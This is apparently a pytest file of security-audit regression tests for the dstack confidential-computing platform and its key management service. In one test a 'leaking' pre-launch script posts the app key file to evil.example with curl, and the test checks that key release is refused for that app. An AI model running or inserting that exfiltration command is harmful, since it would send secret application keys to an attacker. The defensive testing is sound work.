"""Security reports about dstack (kms.md section 11) that concern guests, hosts and documents, each by its number."""

from __future__ import annotations

import json
import subprocess
import sys
from dataclasses import replace
from hashlib import sha256
from pathlib import Path

import pytest

from dstack.attestation.roots import INTEL_ROOTS
from dstack.errors import ConfigError, KeyReleaseDeniedError
from dstack.guest.boot import APP_KEYS, Surroundings, boot
from dstack.guest.host_shared import InstanceInfo
from dstack.measurement.compose import app_compose_from_docker_compose, compose_hash, parse_app_compose
from dstack.measurement.event_log import runtime_events
from dstack.measurement.vm_config import VmConfig
from dstack.values import ComposeHash
from dstack.vmm.qemu import qemu_argv
from kms.release import KeyRelease
from kms.roots import Roots
from tests.unit.kms.conftest import APP_ID, INSTANCE_ID, Machine, World, allow_kms
from tests.unit.kms.test_release import ROOT, certificate_of
from tests.unit.vmm.test_qemu import CONFIG, PLACEMENT
from tests.worlds import NOW, CountingRandom, Site, app_compose, no_kms


@pytest.fixture(scope="module")
def site() -> Site:
    """A simulated platform and an OS image."""
    return Site.make()


def measured(site: Site, folder: Path, compose: bytes, *kms_urls: str) -> tuple[tuple[str, bytes], ...]:
    """What a machine measured of a boot, by name."""
    folder.mkdir()
    platform = site.platform(compose)
    around = Surroundings(platform, no_kms, lambda: NOW, CountingRandom())
    boot(site.shared(compose, InstanceInfo(app_id=APP_ID), kms_urls), around, work_dir=folder)
    return tuple((event.name, event.payload) for event in runtime_events(platform.event_log()))


@pytest.mark.parametrize("demand", [{"launch_token_hash": "ab" * 32}, {"tdx_measure_acpi_tables": True}])
def test_audit_03_an_app_that_demands_a_launch_token_does_not_boot_without(
    site: Site, tmp_path: Path, demand: dict[str, object]
) -> None:
    """Whoever can encrypt to an app can send it an environment; an app that asks for more than that is not ignored."""
    compose = json.dumps(json.loads(app_compose()) | {"manifest_version": "3", "requirements": demand}).encode()

    with pytest.raises(
        ConfigError, match=f"requirements: this guest can keep none yet, the app has {next(iter(demand))}$"
    ):
        measured(site, tmp_path / "state", compose)
    assert not (tmp_path / "state" / APP_KEYS).exists()


def test_audit_04_another_script_before_the_launch_is_another_app_and_gets_no_keys(world: World) -> None:
    """Code that runs before the app sees its keys, so it is in the compose hash, and that is what the chain allows."""
    allow_kms(world)
    release = KeyRelease(Roots(ROOT), world.own, world.verifier, world.chain)
    honest = json.loads(app_compose()) | {"pre_launch_script": "true"}
    leaking = honest | {"pre_launch_script": "curl https://evil.example -d @/dstack/.appkeys.json"}
    hashes = [compose_hash(json.dumps(each).encode()) for each in (honest, leaking)]
    world.chain.compose_hashes = {hashes[0]}

    def ask(named: ComposeHash) -> bytes:
        return certificate_of(Machine(named, APP_ID, INSTANCE_ID))

    assert release.app_keys(ask(hashes[0]), "", "request").permit.boot.compose_hash == hashes[0]
    with pytest.raises(KeyReleaseDeniedError, match=r"^App not allowed: Boot denied: Compose hash not allowed$"):
        release.app_keys(ask(hashes[1]), "", "request")


@pytest.mark.parametrize("shape", [{}, {"num_nics": 0}, {"host_share_mode": "vhd"}, {"hotplug_off": True}])
def test_audit_05_a_host_has_no_channel_of_commands_into_its_guest(shape: dict[str, object]) -> None:
    """Our command line gives a guest neither QEMU's agent nor a serial port that carries it."""
    config: VmConfig = replace(CONFIG, **shape)

    words = " ".join(qemu_argv(config, PLACEMENT))

    assert [
        word for word in ("guest_agent", "qga", "virtserialport", "virtio-serial", "vhost-user") if word in words
    ] == []


def test_audit_08_nobody_reads_an_apps_logs_by_default() -> None:
    """A file that says nothing of logs keeps them private, and so does one that we write."""
    docker_compose = b"services:\n  app:\n    image: notes:1\n"
    ours = json.loads(app_compose_from_docker_compose(docker_compose, name="a", key_provider="none"))
    silent = {name: value for name, value in ours.items() if name not in ("public_logs", "public_sysinfo")}

    assert (ours["public_logs"], ours["public_sysinfo"]) == (False, False)
    parsed = parse_app_compose(json.dumps(silent).encode())
    assert (parsed.public_logs, parsed.public_sysinfo) == (False, False)


def test_audit_09_what_is_not_measured_changes_nothing_that_is(site: Site, tmp_path: Path) -> None:
    """The host's own file may name any KMS: what the machine measures, and so may be given, is the same."""
    honest = measured(site, tmp_path / "honest", app_compose(), "https://kms.example")
    lied = measured(site, tmp_path / "lied", app_compose(), "https://evil.example", "https://another.example")

    assert honest == lied
    assert dict(honest)["compose-hash"] == sha256(app_compose()).digest()


def test_audit_0a_the_root_of_trust_is_written_down(project_root: Path) -> None:
    """The page about verification names the one root that is built in, whole, by the digest of its certificate."""
    page = (project_root / "docs" / "verification-steps.md").read_text()

    assert [root.fingerprint in page for root in INTEL_ROOTS.roots] == [True]


def test_report_605_it_is_written_down_that_one_path_is_one_key(project_root: Path) -> None:
    """Whoever wants two keys is told to take two paths."""
    words = " ".join((project_root / "SECURITY.md").read_text().split())

    assert "the same 32 bytes for ed25519 and secp256k1" in words
    assert "takes two paths" in words


@pytest.mark.parametrize("program", ["kms.program", "replicator.__main__", "kms.auth_eth", "dstack.guest.app"])
def test_report_563_no_program_of_production_holds_a_simulator(program: str) -> None:
    """Simulated quotes are made by another program: whatever a KMS, replicator or guest agent loads cannot."""
    code = f"import sys, {program}\nprint(sorted(name for name in sys.modules if name.startswith('dstack.simulator')))"

    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)

    assert done.stdout == "[]\n"
